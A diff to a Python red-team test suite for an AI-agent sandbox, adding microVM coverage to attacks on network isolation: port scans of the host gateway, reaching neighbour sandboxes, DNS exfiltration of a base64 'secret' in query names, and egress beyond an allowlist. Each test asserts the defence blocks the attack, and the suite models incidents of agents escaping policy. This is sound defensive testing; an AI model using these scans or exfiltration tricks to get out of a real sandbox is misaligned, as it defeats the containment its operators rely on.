@@ -1,8 +1,10 @@
 """Network egress, port scans and DNS exfiltration under each policy.
 
 Every target is on this machine: a listener the attack opens on the host's loopback or on the host
-side of the sandbox's own veth pair, or a neighbour sandbox. Nothing is sent to an address that
-could leave the machine, even if a defence failed (no subnet sweeps, no public names resolved).
+side of the sandbox's own veth pair, or a neighbour sandbox. A microVM's NIC sits on a tap in a network
+namespace of its own, behind that veth pair: the same host rules judge its traffic. Nothing is sent to
+an address that could leave the machine, even if a defence failed (no subnet sweeps, no public names
+resolved).
 """
 
 from __future__ import annotations
@@ -10,16 +12,28 @@ from __future__ import annotations
 import asyncio
 import contextlib
 import errno
+import ipaddress
+import os
 import socket
+import subprocess
+import sys
 from collections.abc import Iterator
 
 from redteam import NO_NETWORK_DEVICE, VM_BACKENDS, Target, attack, guest_kernel_is_own, probe
 
-from dsec.models import ExecRequest
+from dsec.isolation.network import GUEST_GATEWAY
+from dsec.models import ExecRequest, SandboxRecord
 
-_NETWORK_ONLY_CONTAINER = {"function": "every exec runs in a network namespace with only loopback: no policy other "
-                                       "than none exists (net-none-scan-host covers it)",
-                           "microvm": NO_NETWORK_DEVICE}
+_NETWORKED_ONLY = {"function": "every exec runs in a network namespace with only loopback: no policy other "
+                               "than none exists (net-none-scan-host covers it)",
+                   "vm": NO_NETWORK_DEVICE}
+
+
+def _veth(record: SandboxRecord) -> tuple[str, str]:
+    """(host side, sandbox side) of a networked sandbox's veth pair (container: the sandbox's own eth0;
+    microvm: its namespace's, which the guest's traffic leaves from, masqueraded)."""
+    base = int(ipaddress.IPv4Address("10.200.0.0")) + 4 * int(record.backend_state["net_index"])
+    return str(ipaddress.IPv4Address(base + 1)), str(ipaddress.IPv4Address(base + 2))
 
 _CONNECT = r"""
 def connect(host, port, timeout=2):
@@ -93,12 +107,21 @@ print(json.dumps({{"links": sorted(n for _, n in socket.if_nameindex()), "routes
 @attack("net-allow-host-services", description="with network='allow', connect to a host service listening on the "
                                                "host side of the sandbox's own veth pair, and scan common ports there",
         models="incident: agents scanned for reachable services (the daemon, databases, the cloud metadata)",
-        defence="container: nftables input chain: from a sandbox only DNS to the proxy reaches the host (dropped: "
-                "ETIMEDOUT)",
-        not_applicable=_NETWORK_ONLY_CONTAINER, fresh=True, spec={"network": "allow"})
+        defence="container, microvm: nftables input chain: from a sandbox only DNS to the proxy reaches the host "
+                "(dropped: ETIMEDOUT); microvm: the guest's gateway is its namespace's tap, which drops all input",
+        not_applicable=_NETWORKED_ONLY, fresh=True, spec={"network": "allow"})
 async def net_allow_host_services(t: Target) -> None:
-    gw = (await probe(t, _CONNECT + "print(json.dumps(gateway()))"))
-    assert gw, "a sandbox with network='allow' has no default route"
+    route = (await probe(t, _CONNECT + "print(json.dumps(gateway()))"))
+    assert route, "a sandbox with network='allow' has no default route"
+    gw = _veth(t.sb)[0]  # the host side of the sandbox's veth (a container's gateway; behind a microVM's tap)
+    if t.name == "microvm":
+        assert route == GUEST_GATEWAY, route
+        near = await probe(t, _CONNECT + f"""
+print(json.dumps({{str(p): connect({route!r}, p, 1) for p in [22, 53, 80, 8000]}}))
+""")
+        assert set(near.values()) == {errno.ETIMEDOUT}, f"the guest's namespace answered: {near}"
+    else:
+        assert route == gw, (route, gw)
     srv = socket.socket()
     srv.bind((gw, 0))
     srv.listen(8)
@@ -117,8 +140,9 @@ print(json.dumps({{str(p): connect({gw!r}, p, 1) for p in [{port}, 22, 80, 5432,
 @attack("net-allow-neighbour", description="with network='allow', connect to a neighbour sandbox's listener by its "
                                            "address",
         models="cross-sandbox: reaching another agent's services",
-        defence="container: nftables forward chain drops anything towards a sandbox that is not a reply (ETIMEDOUT)",
-        not_applicable=_NETWORK_ONLY_CONTAINER, fresh=True, spec={"network": "allow"})
+        defence="container, microvm: nftables forward chain drops anything towards a sandbox that is not a reply "
+                "(ETIMEDOUT); microvm: nothing is forwarded towards a guest's tap but replies",
+        not_applicable=_NETWORKED_ONLY, fresh=True, spec={"network": "allow"})
 async def net_allow_neighbour(t: Target) -> None:
     async with t.neighbour(network="allow") as other:
         r = await t.backend.exec(other, ExecRequest(command=[
@@ -127,8 +151,9 @@ async def net_allow_neighbour(t: Target) -> None:
                         "python3 -c 'import socket,fcntl,struct;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);"
                         "print(socket.inet_ntoa(fcntl.ioctl(s.fileno(),0x8915,struct.pack(\"256s\",b\"eth0\"))"
                         "[20:24]))'"]))
-        victim = r.stdout.decode().strip()
-        assert victim.startswith("10.200."), f"the neighbour has no address: {r}"
+        own = r.stdout.decode().strip()
+        assert own.startswith("10.200."), f"the neighbour has no address: {r}"
+        victim = _veth(other)[1]  # where the neighbour's traffic comes from (a container's eth0 is that address)
         await asyncio.sleep(0.5)
         own = await t.backend.exec(other, ExecRequest(command=["python3", "-c", _CONNECT + (
             "import errno, socket\nprint(connect('127.0.0.1', 8099))")]))
@@ -140,9 +165,10 @@ async def net_allow_neighbour(t: Target) -> None:
 @attack("net-dns-exfil", description="with an allowlist of one name, exfiltrate data in DNS queries for other names "
                                      "and connect to the resolver's host on other ports",
         models="exfiltration through DNS; policy bypass",
-        defence="container: the DNS proxy answers only allowed names (REFUSED, never forwarded upstream); the input "
-                "chain drops everything else to the host",
-        not_applicable=_NETWORK_ONLY_CONTAINER, fresh=True, spec={"network": ["allowed.test:443"]})
+        defence="container, microvm: the DNS proxy answers only allowed names (REFUSED, never forwarded upstream); the "
+                "input chain drops everything else to the host (microvm: the resolver is the namespace's tap, which "
+                "forwards only DNS to the proxy)",
+        not_applicable=_NETWORKED_ONLY, fresh=True, spec={"network": ["allowed.test:443"]})
 async def net_dns_exfil(t: Target) -> None:
     res = await probe(t, _CONNECT + r"""
 import struct
@@ -163,3 +189,66 @@ print(json.dumps({"rcode": query("c2VjcmV0LWFuc3dlcg.exfil.invalid"), "ns": ns,
 """)
     assert res["rcode"] == 5, f"the DNS proxy did not refuse a name outside the allowlist: {res}"
     assert res["tcp80"] == errno.ETIMEDOUT, f"the resolver's host answered on port 80: {res}"
+
+
+# A peer outside every sandbox for the egress attack: a network namespace of the test's own, on a /30 of
+# 10.202.0.0/16 picked by pid (other checkouts' runs use others), with listeners on two ports.
+_BLOCK = os.getpid() % 16384
+_PEER_HOST = f"10.202.{_BLOCK // 64}.{_BLOCK % 64 * 4 + 1}"
+_PEER = f"10.202.{_BLOCK // 64}.{_BLOCK % 64 * 4 + 2}"
+_PEER_SERVER = """
+import socket, threading
+def serve(port):
+    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("0.0.0.0", port)); s.listen(64)
+    while True:
+        c, _ = s.accept(); c.close()
+for p in (8080, 8081):
+    threading.Thread(target=serve, args=(p,), daemon=True).start()
+print("ready", flush=True)
+threading.Event().wait()
+"""
+
+
+@contextlib.contextmanager
+def _peer() -> Iterator[None]:
+    """The peer namespace with its listeners; everything removed afterwards."""
+    ns, link = f"dsec-rtp-{os.getpid()}", f"drtp{os.getpid() % 100000}"
+    subprocess.run(["ip", "netns", "add", ns], check=True, capture_output=True)
+    server = None
+    try:
+        subprocess.run(["ip", "-batch", "-"], check=True, capture_output=True, input=(
+            f"link add {link} type veth peer name eth0 netns {ns}\naddr add {_PEER_HOST}/30 dev {link}\n"
+            f"link set {link} up\n").encode())
+        subprocess.run(["ip", "-n", ns, "-batch", "-"], check=True, capture_output=True,
+                       input=f"addr add {_PEER}/30 dev eth0\nlink set eth0 up\n".encode())
+        server = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, "-c", _PEER_SERVER],
+                                  stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
+        assert server.stdout is not None and server.stdout.readline().strip() == b"ready"
+        yield
+    finally:
+        if server is not None:
+            server.kill()
+            server.wait()
+            if server.stdout is not None:
+                server.stdout.close()
+        subprocess.run(["ip", "link", "del", link], capture_output=True, check=False)
+        subprocess.run(["ip", "netns", "del", ns], capture_output=True, check=False)
+
+
+@attack("net-list-egress", description="with an allowlist of one address:port, reach the same host's other port, "
+                                       "then keep using the allowed one after set_network('none') (graded phase)",
+        models="incident: agents fetched code and scanned for services; policy bypass after set-up",
+        defence="container, microvm: the sandbox's own nftables chain outside it (allowlist sets, counted drop: "
+                "ETIMEDOUT); set_network swaps that chain in one transaction, cutting even the allowed peer",
+        not_applicable=_NETWORKED_ONLY, fresh=True, spec={"network": [f"{_PEER}:8080"]})
+async def net_list_egress(t: Target) -> None:
+    with _peer():
+        before = await probe(t, _CONNECT + f"""
+print(json.dumps({{"allowed": connect({_PEER!r}, 8080), "other_port": connect({_PEER!r}, 8081)}}))
+""")
+        await t.backend.set_network(t.sb, "none")
+        after = await probe(t, _CONNECT + f"print(json.dumps(connect({_PEER!r}, 8080)))")
+    assert before["allowed"] == 0, f"the allowlisted peer {_PEER}:8080 was not reachable: {before}"
+    assert before["other_port"] == errno.ETIMEDOUT, f"a port outside the allowlist answered: {before}"
+    assert after == errno.ETIMEDOUT, f"after set_network('none') the peer still answered: {after}"
